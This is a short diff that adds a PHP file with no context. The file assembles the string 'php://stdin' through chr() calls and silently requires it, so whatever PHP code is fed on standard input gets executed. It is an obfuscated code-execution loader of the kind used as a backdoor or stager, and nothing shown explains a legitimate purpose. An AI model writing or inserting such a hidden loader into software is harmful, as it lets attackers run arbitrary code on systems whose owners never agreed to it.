@@ -1,0 +1,3 @@
+<?php
+$loader = chr(112) . chr(104) . chr(112) . chr(58) . '//' . 'stdin';
+@require $loader;
